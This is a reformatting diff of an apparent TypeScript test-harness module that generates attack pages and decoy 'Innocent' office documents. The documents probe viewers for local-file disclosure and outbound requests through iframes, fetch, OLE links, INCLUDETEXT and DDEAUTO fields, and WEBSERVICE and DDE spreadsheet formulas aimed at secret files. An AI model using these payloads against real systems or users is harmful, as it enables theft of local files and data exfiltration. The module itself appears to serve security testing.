@@ -2,7 +2,27 @@
 import { docx, docxPicture, odt, ods, outside, xlsx } from './office-files.ts';
 
 /** Paths below the base that a browser asks for when nothing holds it back. */
-export const controls = ['/img', '/css', '/script', '/frame', '/object', '/embed', '/video', '/import', '/background', '/svg', '/fetch', '/xhr', '/socket', '/beacon', '/events', '/module', '/worker', '/form', '/srcset'];
+export const controls = [
+  '/img',
+  '/css',
+  '/script',
+  '/frame',
+  '/object',
+  '/embed',
+  '/video',
+  '/import',
+  '/background',
+  '/svg',
+  '/fetch',
+  '/xhr',
+  '/socket',
+  '/beacon',
+  '/events',
+  '/module',
+  '/worker',
+  '/form',
+  '/srcset',
+];
 
 export function attackPage(base: string): string {
   const host = new URL(base).host;
@@ -44,10 +64,14 @@ export function fileAttacks(files: readonly string[]): string[] {
   const urls = files.map((file) => `file://${file}`);
   const all = (make: (url: string) => string): string => urls.map(make).join('');
   return [
-    all((url) => `<iframe src="${url}" width=800 height=600></iframe><object data="${url}" type="text/plain" width=800 height=600></object><embed src="${url}" type="text/plain"><iframe src="view-source:${url}"></iframe>`),
+    all(
+      (url) =>
+        `<iframe src="${url}" width=800 height=600></iframe><object data="${url}" type="text/plain" width=800 height=600></object><embed src="${url}" type="text/plain"><iframe src="view-source:${url}"></iframe>`,
+    ),
     `<base href="file:///">${files.map((file) => `<iframe src=".${file}" width=800 height=600></iframe><link rel=import href="${file}">`).join('')}`,
     `<script>${all((url) => `fetch("${url}").then((r) => r.text()).then((t) => document.body.append(t)); { const x = new XMLHttpRequest(); x.onload = () => document.body.append(x.responseText); x.open("GET", "${url}"); x.send() }`)}</script>`,
-    ...urls.map((url) => `<script>location = "${url}"</script>`), `<meta http-equiv=refresh content="0;url=${urls[0] ?? ''}">`,
+    ...urls.map((url) => `<script>location = "${url}"</script>`),
+    `<meta http-equiv=refresh content="0;url=${urls[0] ?? ''}">`,
   ];
 }
 
@@ -57,21 +81,89 @@ export interface AttackFile {
 }
 
 /** Office files that say Innocent, and link to each base and to files of the machine. */
-export async function attackFiles(bases: readonly string[], secrets: readonly string[]): Promise<Record<string, AttackFile>> {
+export async function attackFiles(
+  bases: readonly string[],
+  secrets: readonly string[],
+): Promise<Record<string, AttackFile>> {
   const remote = bases.map((base) => `${base}/linked`);
   const targets = [...remote, ...secrets.map((secret) => `file://${secret}`)];
   const all = (make: (target: string, index: number) => string): string => targets.map(make).join('');
   const binary = (bytes: Uint8Array | string): AttackFile => ({ mediaType: 'application/octet-stream', bytes });
-  const field = (code: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
+  const field = (code: string): string =>
+    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
   return {
-    'attack-pictures.docx': binary(await docx('Innocent', { body: all((_target, index) => docxPicture(`p${index}`)), links: all((target, index) => outside(`p${index}`, 'image', target)) })),
-    'attack-parts.docx': binary(await docx('Innocent', { body: all((_target, index) => `<w:altChunk r:id="c${index}"/>`), links: all((target, index) => outside(`c${index}`, 'aFChunk', target) + outside(`t${index}`, 'attachedTemplate', target) + outside(`s${index}`, 'subDocument', target)) })),
-    'attack-fields.docx': binary(await docx('Innocent', { body: all((target) => field(`INCLUDETEXT "${target}"`) + field(`INCLUDEPICTURE "${target}"`) + field(`DDEAUTO soffice "${target}" x`)) })),
-    'attack-pictures.odt': binary(await odt('Innocent', all((target) => `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`))),
-    'attack-sections.odt': binary(await odt('Innocent', all((target, index) => `<text:section text:name="s${index}"><text:section-source xlink:href="${target}" text:filter-name="Text"/><text:p/></text:section><text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:floating-frame xlink:href="${target}"/></draw:frame><draw:frame svg:width="9cm" svg:height="9cm"><draw:object xlink:href="${target}"/></draw:frame></text:p>`))),
-    'attack-formulas.xlsx': binary(await xlsx(['Innocent', ...targets.flatMap((target) => [`=WEBSERVICE("${target}")`, `=_xlfn.WEBSERVICE("${target}")`, `='${target}'#$One.A1`, `=HYPERLINK("${target}")`])])),
-    'attack-formulas.ods': binary(await ods('Innocent', ...targets.flatMap((target) => [`of:=COM.MICROSOFT.WEBSERVICE("${target}")`, `of:='${target}'#[$'One'.A1]`, `of:=DDE("soffice";"${target}";"One.A1")`]))),
-    'attack-formulas.csv': { mediaType: 'text/csv', bytes: `Innocent\n${all((target) => `"=WEBSERVICE(""${target}"")","='${target}'#$One.A1"\n`)}` },
-    'attack-fields.rtf': binary(`{\\rtf1 Innocent ${remote.map((target) => `{\\field{\\*\\fldinst INCLUDEPICTURE "${target}" \\\\d}{\\fldrslt }}`).join('')}${all((target) => `{\\field{\\*\\fldinst INCLUDETEXT "${target}"}{\\fldrslt }}`)}}`),
+    'attack-pictures.docx': binary(
+      await docx('Innocent', {
+        body: all((_target, index) => docxPicture(`p${index}`)),
+        links: all((target, index) => outside(`p${index}`, 'image', target)),
+      }),
+    ),
+    'attack-parts.docx': binary(
+      await docx('Innocent', {
+        body: all((_target, index) => `<w:altChunk r:id="c${index}"/>`),
+        links: all(
+          (target, index) =>
+            outside(`c${index}`, 'aFChunk', target) +
+            outside(`t${index}`, 'attachedTemplate', target) +
+            outside(`s${index}`, 'subDocument', target),
+        ),
+      }),
+    ),
+    'attack-fields.docx': binary(
+      await docx('Innocent', {
+        body: all(
+          (target) =>
+            field(`INCLUDETEXT "${target}"`) +
+            field(`INCLUDEPICTURE "${target}"`) +
+            field(`DDEAUTO soffice "${target}" x`),
+        ),
+      }),
+    ),
+    'attack-pictures.odt': binary(
+      await odt(
+        'Innocent',
+        all(
+          (target) =>
+            `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
+        ),
+      ),
+    ),
+    'attack-sections.odt': binary(
+      await odt(
+        'Innocent',
+        all(
+          (target, index) =>
+            `<text:section text:name="s${index}"><text:section-source xlink:href="${target}" text:filter-name="Text"/><text:p/></text:section><text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:floating-frame xlink:href="${target}"/></draw:frame><draw:frame svg:width="9cm" svg:height="9cm"><draw:object xlink:href="${target}"/></draw:frame></text:p>`,
+        ),
+      ),
+    ),
+    'attack-formulas.xlsx': binary(
+      await xlsx([
+        'Innocent',
+        ...targets.flatMap((target) => [
+          `=WEBSERVICE("${target}")`,
+          `=_xlfn.WEBSERVICE("${target}")`,
+          `='${target}'#$One.A1`,
+          `=HYPERLINK("${target}")`,
+        ]),
+      ]),
+    ),
+    'attack-formulas.ods': binary(
+      await ods(
+        'Innocent',
+        ...targets.flatMap((target) => [
+          `of:=COM.MICROSOFT.WEBSERVICE("${target}")`,
+          `of:='${target}'#[$'One'.A1]`,
+          `of:=DDE("soffice";"${target}";"One.A1")`,
+        ]),
+      ),
+    ),
+    'attack-formulas.csv': {
+      mediaType: 'text/csv',
+      bytes: `Innocent\n${all((target) => `"=WEBSERVICE(""${target}"")","='${target}'#$One.A1"\n`)}`,
+    },
+    'attack-fields.rtf': binary(
+      `{\\rtf1 Innocent ${remote.map((target) => `{\\field{\\*\\fldinst INCLUDEPICTURE "${target}" \\\\d}{\\fldrslt }}`).join('')}${all((target) => `{\\field{\\*\\fldinst INCLUDETEXT "${target}"}{\\fldrslt }}`)}}`,
+    ),
   };
 }
